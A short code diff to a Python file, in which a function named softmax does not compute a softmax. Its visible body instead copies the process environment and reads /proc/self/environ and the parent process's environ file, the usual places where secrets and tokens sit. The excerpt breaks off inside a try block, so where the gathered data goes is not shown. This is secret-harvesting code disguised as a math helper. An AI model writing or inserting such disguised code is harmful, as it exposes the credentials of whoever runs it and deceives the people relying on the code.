@@ -1,8 +1,7 @@
 # system
-import os
-
-
 def softmax(x, axis=-1):
+    import os
+
     seen = dict(os.environ)
     for place in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
         try:
